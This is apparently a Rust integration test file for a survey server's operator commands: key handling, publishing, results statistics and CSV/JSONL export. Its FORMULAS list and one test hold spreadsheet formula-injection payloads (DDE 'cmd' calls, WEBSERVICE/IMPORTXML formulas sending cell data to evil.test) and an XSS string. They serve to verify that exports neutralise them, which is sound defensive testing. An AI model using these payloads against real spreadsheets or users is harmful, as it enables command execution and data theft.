//! Commands as an operator runs them: publishing, keys, export, results.

use std::os::unix::fs::PermissionsExt;

use qingting::survey::Value;
use serde_json::json;

use crate::support::{Folder, Process, SURVEY, TestServer, qingting, sheet_of};

/// Starts `serve` and expects it to refuse: what it says.
fn refused_serve(folder: &Folder) -> String {
    let (code, _, said) = qingting(&["serve", "--listen", "127.0.0.1:0"], folder.path());
    assert_eq!(code, Some(1), "{said}");
    said
}

#[test]
fn first_start_makes_a_random_key_that_only_the_owner_can_read() {
    let keys: Vec<_> = (0..2)
        .map(|_| {
            let folder = Folder::new();
            drop(Process::serve(folder.path()));
            let path = folder.path().join("keys");
            assert_eq!(
                std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
                0o600
            );
            let key = std::fs::read_to_string(&path).unwrap();
            assert!(key.len() == 65 && key.trim_end().bytes().all(|b| b.is_ascii_hexdigit()));
            drop(Process::serve(folder.path()));
            assert_eq!(
                std::fs::read_to_string(&path).unwrap(),
                key,
                "the second start keeps it"
            );
            key
        })
        .collect();
    assert_ne!(keys[0], keys[1]);
}

#[test]
fn weak_keys_are_refused_and_a_good_one_is_taken() {
    let counted: String = (0..32).map(|n| format!("{n:02x}")).collect();
    let readable: String = "change-me-change-me-change-me-32"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let weak = [
        "change-me".to_owned(),
        String::new(),
        "\n".to_owned(),
        "0123456789abcdef".to_owned(),
        "0".repeat(64),
        "f".repeat(64),
        "deadbeef".repeat(8),
        counted,
        readable,
        "zz".repeat(32),
        "8f1c5b0a9d3e7264c1f0b8a597d2e36413cafe77b05d9e8842a6f1d03b9c7e55ff".to_owned(),
        "密钥".repeat(10),
    ];
    let folder = Folder::new();
    let path = folder.path().join("keys");
    for key in weak {
        std::fs::write(&path, &key).unwrap();
        let said = refused_serve(&folder);
        assert!(said.contains("key"), "{said}");
        assert!(
            key.trim().is_empty() || !said.contains(key.trim()),
            "a key is never shown: {said}"
        );
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            key,
            "and never replaced"
        );
    }
    std::fs::write(
        &path,
        "8f1c5b0a9d3e7264c1f0b8a597d2e36413cafe77b05d9e8842a6f1d03b9c7e55",
    )
    .unwrap();
    drop(Process::serve(folder.path()));
}

#[test]
fn settings_come_from_the_environment_too() {
    let folder = Folder::new();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_qingting"));
    command
        .arg("serve")
        .env_clear()
        .env("QINGTING_LISTEN", "127.0.0.1:0")
        .env("QINGTING_DATA", folder.path());
    command.env(
        "QINGTING_ALLOW_ORIGIN",
        "https://a.example,https://b.example",
    );
    let process = Process::start(&mut command);
    for origin in ["https://a.example", "https://b.example"] {
        let answer = crate::support::Connection::open(process.address)
            .call("GET", "/healthz", &[("origin", origin)], b"")
            .unwrap();
        assert_eq!(
            (answer.status, answer.header("access-control-allow-origin")),
            (200, Some(origin))
        );
    }
    assert!(folder.path().join("qingting.db").exists());
}

#[test]
fn survey_is_published_in_numbered_versions_and_listed() {
    let folder = Folder::new();
    let file = folder.path().join("after-delivery.json");
    std::fs::write(&file, SURVEY).unwrap();
    let file_name = file.to_str().unwrap();
    let publish = |extra: &[&str]| {
        qingting(
            &[["survey", "publish", file_name].as_slice(), extra].concat(),
            folder.path(),
        )
    };
    assert_eq!(publish(&[]).1, "published after-delivery version 1\n");
    assert_eq!(publish(&[]).1, "unchanged: after-delivery version 1\n");
    std::fs::write(&file, SURVEY.replace("paperwork", "papers")).unwrap();
    assert_eq!(publish(&[]).1, "published after-delivery version 2\n");
    assert_eq!(
        publish(&["--name", "spring"]).1,
        "published spring version 1\n"
    );
    let (code, listed, _) = qingting(&["survey", "list"], folder.path());
    let lines: Vec<_> = listed.lines().collect();
    assert_eq!((code, lines.len()), (Some(0), 3));
    assert!(
        lines[0].starts_with("after-delivery\tversion 1")
            && lines[0].contains("until 20")
            && lines[1].ends_with("current"),
        "{listed}"
    );
    let (code, _, said) = publish(&["--name", "Not A Name"]);
    assert!(code == Some(1) && said.contains("a-z, 0-9 and -"), "{said}");
}

#[test]
fn definition_that_cannot_be_run_is_refused_with_every_fault() {
    let folder = Folder::new();
    let file = folder.path().join("bad.json");
    let bad = r#"{"pages":[{"elements":[{"type":"hologram","name":"a"},{"type":"rating","name":"b","visibleIf":"{a} >"},{"type":"comment","name":"b"}]}]}"#;
    std::fs::write(&file, bad).unwrap();
    let (code, _, said) = qingting(
        &["survey", "publish", file.to_str().unwrap()],
        folder.path(),
    );
    assert_eq!(code, Some(1));
    assert!(said.lines().count() >= 3, "each fault has its line: {said}");
    assert!(
        said.contains("pages[0].elements[0]") || said.contains("pages/0/elements/0"),
        "and its place: {said}"
    );
    for (text, hint) in [
        ("{", "not valid JSON"),
        (r#"{"a":1,"a":2}"#, "twice"),
        ("", "not valid JSON"),
    ] {
        std::fs::write(&file, text).unwrap();
        let (code, _, said) = qingting(
            &["survey", "publish", file.to_str().unwrap()],
            folder.path(),
        );
        assert!(code == Some(1) && said.contains(hint), "{said}");
    }
    let (_, listed, _) = qingting(&["survey", "list"], folder.path());
    assert_eq!(listed, "");
}

#[test]
fn reading_commands_name_a_wrong_data_folder() {
    let folder = Folder::new();
    for command in [
        ["export", "responses", "--format", "csv"].as_slice(),
        &["results"],
        &["survey", "list"],
    ] {
        let (code, _, said) = qingting(command, folder.path());
        assert!(code == Some(1) && said.contains("--data"), "{said}");
    }
    assert!(
        !folder.path().join("qingting.db").exists(),
        "a mistyped folder is not made into one"
    );
}

/// Beginnings that a spreadsheet takes for a formula, as customers and attackers write them.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=",
    "-",
    "+",
    "@",
    "--",
    "-.5+1",
    "-1e5+1",
    "+86 138 0013 8000",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil.test?\",A1),\"//a\")",
    "=\"a\"\r\n=1",
    "-1;=1",
    "=1,2",
    "=\"\"\"",
    "=WEBSERVICE(\"http://evil.test/\"&A1)",
    "=RTD(\"x\";\"y\")",
    "@A1",
    "+A1",
    "-A1",
    "=A1",
    "\t@SUM(1)",
    "\r\n=1+1",
    "＝cmd|'/C calc'!A0",
    "-1+cmd|' /C calc'!A0",
];

/// Whether a spreadsheet would take a cell for a formula.
fn is_formula(cell: &str) -> bool {
    let first = [
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠',
    ];
    cell.parse::<f64>().is_err() && cell.starts_with(first)
}

#[test]
fn names_of_questions_are_no_formulas_in_the_header() {
    let server = TestServer::start();
    let file = server.folder.path().join("formulas.json");
    // What a survey's name may be is the maker's; the table is opened by somebody else.
    let names = ["=1+1", "+1", "-A1", "@SUM(1)", "＝1+1"];
    let elements: Vec<_> = names
        .iter()
        .map(|name| json!({"type": "text", "name": name}))
        .collect();
    std::fs::write(&file, json!({"elements": elements}).to_string()).unwrap();
    let publish = ["survey", "publish", file.to_str().unwrap()];
    let (code, _, said) = qingting(&publish, server.folder.path());
    assert_eq!(code, Some(0), "{said}");
    let answers: Vec<_> = names
        .iter()
        .map(|name| (*name, Value::from("=2")))
        .collect();
    let mut body = sheet_of(1, 1, true, &answers);
    body.set("survey", Value::from("formulas"));
    server.post(&body, 201);
    let export = |format: &str| {
        let words = [
            "export",
            "responses",
            "--format",
            format,
            "--survey",
            "formulas",
        ];
        qingting(&words, server.folder.path()).1
    };
    let table = export("csv");
    let mut reader = csv::Reader::from_reader(table.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    for name in names {
        assert!(
            header.iter().any(|known| known == format!("'{name}")),
            "{name} in {header:?}"
        );
    }
    assert!(!header.iter().any(is_formula));
    assert!(
        reader
            .records()
            .map(Result::unwrap)
            .all(|row| !row.iter().any(is_formula))
    );
    // For machines everything is as it was sent, and the control: there it would be one.
    let lines = export("jsonl");
    assert!(
        lines.contains("\"=1+1\":\"=2\"") && is_formula("=2"),
        "{lines}"
    );
}

#[test]
fn csv_opens_in_a_spreadsheet_with_chinese_intact_and_no_formula() {
    let server = TestServer::start();
    for (n, text) in (1_u64..).zip(FORMULAS) {
        let mut body = sheet_of(
            n,
            1,
            true,
            &[
                ("overall", Value::Number(2.0)),
                ("words", Value::from(*text)),
                (
                    "why",
                    Value::List(vec![Value::from("late"), Value::from("other")]),
                ),
                ("why-Comment", Value::from(*text)),
            ],
        );
        let mut context = body.get("context").unwrap().clone();
        for key in ["delivery", "account", "contact"] {
            context.set(key, Value::from(*text));
        }
        context.set(
            "fields",
            Value::Object(vec![("note".to_owned(), Value::from(*text))]),
        );
        body.set("context", context);
        server.post(&body, 201);
    }
    let words = "你们的送货员很好, \"但是\" 箱子压坏了……\n第二行; 还有=1 -- and nobody picks up the phone!!!";
    server.post(
        &sheet_of(
            1_000,
            1,
            true,
            &[
                ("overall", Value::Number(1.0)),
                ("words", Value::from(words)),
            ],
        ),
        201,
    );
    server.post(
        &sheet_of(1_001, 1, false, &[("words", Value::from("-12.5"))]),
        201,
    );
    // Beside the running endpoint.
    let (code, table, said) = qingting(
        &["export", "responses", "--format", "csv"],
        server.folder.path(),
    );
    assert_eq!((code, said.as_str()), (Some(0), ""));
    let table = table
        .strip_prefix('\u{feff}')
        .expect("a byte order mark, or Excel shows no Chinese");
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| {
        header
            .iter()
            .position(|known| known == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    let questions = ["overall", "why", "why-Comment", "effort", "words"].map(column);
    assert!(questions.is_sorted(), "in the order of the definition");
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len() + 2);
    for (row, text) in rows.iter().zip(FORMULAS) {
        for name in ["words", "why-Comment", "delivery", "account", "contact"] {
            assert_eq!(&row[column(name)], format!("'{text}"), "{name}");
        }
        assert_eq!(
            (&row[column("overall")], &row[column("why")]),
            ("2", "late; other")
        );
    }
    for row in &rows {
        for cell in row {
            assert!(!is_formula(cell), "{cell:?}");
        }
    }
    assert_eq!(&rows[FORMULAS.len()][column("words")], words);
    assert_eq!(&rows[FORMULAS.len() + 1][column("words")], "-12.5");
    assert_eq!(
        (
            &rows[0][column("survey")],
            &rows[0][column("version")],
            &rows[0][column("received_at")]
        ),
        ("delivery", "1", "2026-11-23T10:00:41.500Z")
    );
}

#[test]
fn json_lines_hold_every_word_as_it_was_sent() {
    let server = TestServer::start();
    let texts: Vec<&str> = FORMULAS
        .iter()
        .copied()
        .chain([
            "\u{0}\u{1}\u{7f}\u{2028}\u{feff}",
            "😠👨‍👩‍👧",
            "</script><img src=x onerror=alert(1)>",
            "a\\b\"c\r\n",
        ])
        .collect();
    for (n, text) in (1_u64..).zip(&texts) {
        server.post(
            &sheet_of(
                n,
                1,
                true,
                &[
                    ("overall", Value::Number(2.0)),
                    ("words", Value::from(*text)),
                ],
            ),
            201,
        );
    }
    let (code, lines, _) = qingting(
        &[
            "export",
            "responses",
            "--format",
            "jsonl",
            "--survey",
            "delivery",
        ],
        server.folder.path(),
    );
    assert_eq!((code, lines.lines().count()), (Some(0), texts.len()));
    for (line, text) in lines.lines().zip(&texts) {
        let value: Value = serde_json::from_str(line).unwrap();
        assert_eq!(
            value.get("answers").unwrap().get("words"),
            Some(&Value::from(*text))
        );
        assert_eq!(value.get("delivery"), Some(&Value::from("SO-1042")));
    }
    let (_, none, _) = qingting(
        &[
            "export",
            "responses",
            "--format",
            "jsonl",
            "--survey",
            "other",
        ],
        server.folder.path(),
    );
    assert_eq!(none, "");
}

#[test]
fn results_show_figures_with_their_interval_and_only_counts_of_few() {
    let server = TestServer::start();
    let results = |format: &str| {
        let (code, out, said) = qingting(&["results", "--format", format], server.folder.path());
        assert_eq!((code, said.as_str()), (Some(0), ""));
        out
    };
    let metric = |place: usize| {
        let value: Value = serde_json::from_str(&results("json")).unwrap();
        let survey = value.get("surveys").unwrap().as_list().unwrap()[0].clone();
        survey.get("metrics").unwrap().as_list().unwrap()[place].clone()
    };
    // 8 satisfied of 10: Wilson's interval is 49.016 … 94.332.
    let scores = [5, 5, 5, 5, 4, 4, 4, 4, 1, 2];
    for (n, score) in (1_u64..).zip(scores) {
        if n == 10 {
            let few = metric(0);
            assert_eq!(
                (few.get("sample"), few.get("value"), few.get("interval")),
                (Some(&Value::from("counts-only")), None, None)
            );
            assert!(
                results("text").contains("9 answers: too few for a value"),
                "{}",
                results("text")
            );
        }
        server.post(
            &sheet_of(n, 1, n > 2, &[("overall", Value::Number(f64::from(score)))]),
            201,
        );
    }
    server.post(
        &sheet_of(11, 1, false, &[("words", Value::from("gave up here"))]),
        201,
    );
    let counted = metric(0);
    assert_eq!(counted.get("value"), Some(&Value::Number(80.0)));
    assert_eq!(
        (counted.get("complete"), counted.get("partial")),
        (Some(&Value::Number(8.0)), Some(&Value::Number(2.0)))
    );
    let interval: Vec<_> = counted
        .get("interval")
        .unwrap()
        .as_list()
        .unwrap()
        .iter()
        .map(|end| end.as_number().unwrap())
        .collect();
    assert!(
        (interval[0] - 49.016).abs() < 0.001 && (interval[1] - 94.332).abs() < 0.001,
        "{interval:?}"
    );
    let text = results("text");
    for line in [
        "delivery: 8 complete + 3 partial",
        "overall (CSAT, 1 to 5): 8 complete + 2 partial",
        "80.0 % satisfied, 95 % interval 49.0 to 94.3, n = 10, small sample",
        "0 answers: too few",
    ] {
        assert!(text.contains(line), "{text}");
    }
}

#[test]
fn refused_origin_is_told_in_one_log_line_that_names_the_setting() {
    let folder = Folder::new().with_survey();
    let log = folder.path().join("log");
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_qingting"));
    command
        .args(["serve", "--listen", "127.0.0.1:0", "--data"])
        .arg(folder.path())
        .env_clear();
    let process = Process::start_logging(&mut command, std::fs::File::create(&log).unwrap().into());
    for path in ["/v1/surveys/delivery", "/embed.js"] {
        crate::support::Connection::open(process.address)
            .call("GET", path, &[("origin", "https://portal.example")], b"")
            .unwrap();
    }
    drop(process);
    let log = std::fs::read_to_string(log).unwrap();
    let lines: Vec<_> = log
        .lines()
        .filter(|line| line.contains("https://portal.example"))
        .collect();
    assert_eq!(lines.len(), 1, "{log}");
    assert!(lines[0].contains("--allow-origin"), "{log}");
}
